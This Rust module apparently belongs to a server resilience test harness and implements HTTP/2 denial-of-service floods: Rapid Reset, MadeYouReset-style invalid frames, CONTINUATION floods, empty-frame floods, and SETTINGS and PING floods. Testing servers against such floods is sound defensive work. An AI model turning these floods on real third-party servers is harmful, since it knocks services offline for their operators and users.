//! Frames of HTTP/2 that cost the sender less than the receiver.

use crate::arena::Arena;
use crate::wire::http2::{
    self, CONTINUATION, DATA, END_HEADERS, HEADERS, Http2, INITIAL_WINDOW_SIZE, PING, PRIORITY,
    field, frame, reset, settings, window_update,
};
use crate::wire::messages::CHAT;

const CONNECTIONS: u64 = 4;
/// Frames, or pairs of them, that are written at once.
const BATCH: u64 = 64;
const UNKNOWN: u8 = 0xfa;
const PADDED: u8 = 8;

/// The streams of a batch, which a client numbers 1, 3, 5...
fn streams(piece: u64) -> impl Iterator<Item = u32> {
    (0..BATCH).map(move |n| (((piece * BATCH + n) * 2 + 1) & 0x7fff_ffff) as u32)
}

fn chat() -> Vec<u8> {
    http2::post(CHAT, "application/grpc+proto", &[])
}

pub(super) async fn rapid_reset(arena: Arena) -> Result<String, String> {
    arena
        .on_connections(CONNECTIONS, |arena, _| async move {
            let Ok(connection) = Http2::open(&arena, &[]).await else {
                return;
            };
            let block = chat();
            let pair =
                |stream| [frame(HEADERS, END_HEADERS, stream, &block), reset(stream)].concat();
            connection
                .flood(&arena, |n| streams(n).flat_map(pair).collect())
                .await;
        })
        .await;
    Ok(format!("{} streams", arena.counted() * BATCH))
}

pub(super) async fn made_you_reset(arena: Arena) -> Result<String, String> {
    arena
        .on_connections(CONNECTIONS, |arena, number| async move {
            let Ok(connection) = Http2::open(&arena, &[]).await else {
                return;
            };
            let block = chat();
            let wrong = |stream| match number % 3 {
                // An increment of nothing (RFC 9113, section 6.9).
                0 => window_update(stream, 0),
                // A stream that depends on itself (RFC 7540, section 5.3.1).
                1 => frame(
                    PRIORITY,
                    0,
                    stream,
                    &[&stream.to_be_bytes()[..], &[1]].concat(),
                ),
                // A window over 2^31-1.
                _ => window_update(stream, 0x7fff_ffff),
            };
            let pair =
                |stream| [frame(HEADERS, END_HEADERS, stream, &block), wrong(stream)].concat();
            connection
                .flood(&arena, |n| streams(n).flat_map(pair).collect())
                .await;
        })
        .await;
    Ok(format!("{} streams", arena.counted() * BATCH))
}

pub(super) async fn continuation(arena: Arena) -> Result<String, String> {
    arena
        .on_connections(CONNECTIONS, |arena, number| async move {
            let Ok(mut connection) = Http2::open(&arena, &[]).await else {
                return;
            };
            let begun = frame(HEADERS, 0, 1, &chat());
            if connection.send(&begun).await.is_err() {
                return;
            }
            let block = match number % 3 {
                0 => Vec::new(),
                1 => field("x-a", b"1"),
                _ => field("x-a", &[b'x'; 16_000]),
            };
            let more = frame(CONTINUATION, 0, 1, &block);
            let batch = more.repeat(if block.len() > 100 { 1 } else { BATCH as usize });
            connection.flood(&arena, |_| batch.clone()).await;
        })
        .await;
    Ok(format!("{} writes of CONTINUATION", arena.counted()))
}

pub(super) async fn empty_frames(arena: Arena) -> Result<String, String> {
    arena
        .on_connections(CONNECTIONS * 2, |arena, number| async move {
            let Ok(mut connection) = Http2::open(&arena, &[]).await else {
                return;
            };
            if connection.head(1, 0, &chat()).await.is_err() {
                return;
            }
            let empty = match number % 4 {
                0 => frame(DATA, 0, 1, &[]),
                1 => frame(DATA, PADDED, 1, &[3, 0, 0, 0]),
                2 => frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 16]),
                _ => frame(UNKNOWN, 0, 1, &[]),
            };
            let batch = empty.repeat(BATCH as usize);
            connection.flood(&arena, |_| batch.clone()).await;
        })
        .await;
    Ok(format!("{} frames", arena.counted() * BATCH))
}

/// Half of the connections read what comes back.
async fn flood_with(arena: Arena, piece: fn(u64) -> Vec<u8>) -> Result<String, String> {
    arena
        .on_connections(CONNECTIONS, move |arena, number| async move {
            let Ok(connection) = Http2::open(&arena, &[]).await else {
                return;
            };
            let batch = move |n| (0..BATCH).flat_map(|m| piece(n * BATCH + m)).collect();
            if number.is_multiple_of(2) {
                connection.flood(&arena, batch).await;
            } else {
                connection.flood_unread(&arena, batch).await;
            }
        })
        .await;
    Ok(format!("{} frames", arena.counted() * BATCH))
}

pub(super) async fn settings_frames(arena: Arena) -> Result<String, String> {
    flood_with(arena, |n| {
        settings(&[(INITIAL_WINDOW_SIZE, (n % 65_536) as u32)])
    })
    .await
}

pub(super) async fn ping(arena: Arena) -> Result<String, String> {
    flood_with(arena, |n| frame(PING, 0, 0, &n.to_be_bytes())).await
}
